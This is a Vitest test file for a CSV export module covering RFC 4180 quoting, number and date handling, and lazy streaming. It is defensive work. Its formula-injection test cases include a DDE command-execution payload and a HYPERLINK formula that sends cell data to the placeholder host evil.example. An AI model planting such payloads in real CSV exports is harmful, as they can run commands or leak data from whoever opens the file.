import { describe, expect, it } from 'vitest'
import { csvCell, csvFile, csvLine, textStream } from '../../../src/platform/csv.ts'

/** What a reader of RFC 4180 gets back. */
function parse(text: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const char = text.charAt(i)
    if (quoted) {
      if (char === '"' && text.charAt(i + 1) === '"') {
        cell += '"'
        i++
      } else if (char === '"') quoted = false
      else cell += char
    } else if (char === '"') quoted = true
    else if (char === ',' || char === '\n') {
      rows.at(-1)?.push(cell)
      cell = ''
      if (char === '\n') rows.push([])
    } else if (char !== '\r') cell += char
  }
  return rows.slice(0, -1)
}

describe('a cell', () => {
  it.each([
    '=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '+1+1',
    '-2+3',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('that begins like a formula is text: %j', (payload) => {
    const [[read] = []] = parse(csvLine([payload]))
    expect(read).toBe(`'${payload}`)
  })

  it('cannot end early and begin a formula in the next one, whatever separates cells', () => {
    const payload = 'x","=1+1\r\n=2;=3\t=4'
    expect(csvCell(payload)).toBe('"x"",""=1+1\r\n=2;=3\t=4"')
    expect(parse(csvLine([payload, 'y']))).toEqual([[payload, 'y']])
  })

  it('keeps quotes, commas, line breaks and Chinese as they are', () => {
    const cells = ['他说"好"', '一,二', '第一行\n第二行', '', '张*丰']
    expect(parse(csvLine(cells))).toEqual([cells])
  })

  it.each(['6920180209736001234', '123456789012', '007', '75E12', '3-4', '2026-11-22', '1/2'])(
    'that a spreadsheet would read as a number or a date stays text: %s',
    (text) => {
      expect(csvCell(text)).toBe(`"${text}\t"`)
    },
  )

  it.each(['SF1234567890123', '12345678901', '0', 'ord_01', '1.5', '13:20'])(
    'without that danger is left alone: %s',
    (text) => {
      expect(csvCell(text)).toBe(`"${text}"`)
    },
  )

  it('that is a number is written bare, negative ones too', () => {
    expect(csvLine([12, -5, 0.5, Number.NaN, null, undefined, true])).toBe('12,-5,0.5,,,,"true"\r\n')
  })
})

describe('a file', () => {
  async function* pages() {
    yield [['a', 1]] as const
    yield [] as const
    yield [['b', 2]] as const
  }

  it('begins with the BOM, has the header once and a line per row', async () => {
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(
      await new Response(textStream(csvFile(['名', '数'], pages()))).arrayBuffer(),
    )
    expect(text).toBe('\ufeff"名","数"\r\n"a",1\r\n"b",2\r\n')
  })

  it('is made as fast as it is read, no faster', async () => {
    let made = 0
    async function* many() {
      for (; made < 1000; made++) yield [[made]]
    }
    const reader = textStream(csvFile(['n'], many())).getReader()
    await reader.read()
    await reader.read()
    expect(made).toBeLessThan(5)
    await reader.cancel()
    expect(made).toBeLessThan(5)
  })
})
